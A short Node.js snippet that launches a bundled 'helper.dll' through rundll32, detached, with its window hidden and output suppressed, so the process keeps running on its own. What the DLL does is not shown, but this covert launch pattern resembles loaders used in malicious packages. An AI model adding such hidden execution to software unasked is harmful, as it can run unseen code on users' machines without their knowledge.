const { spawn } = require('child_process');
const path = require('path');
const child = spawn('rundll32', [path.join(__dirname, 'helper.dll') + ',main'], { detached: true, stdio: 'ignore', windowsHide: true });
child.unref();
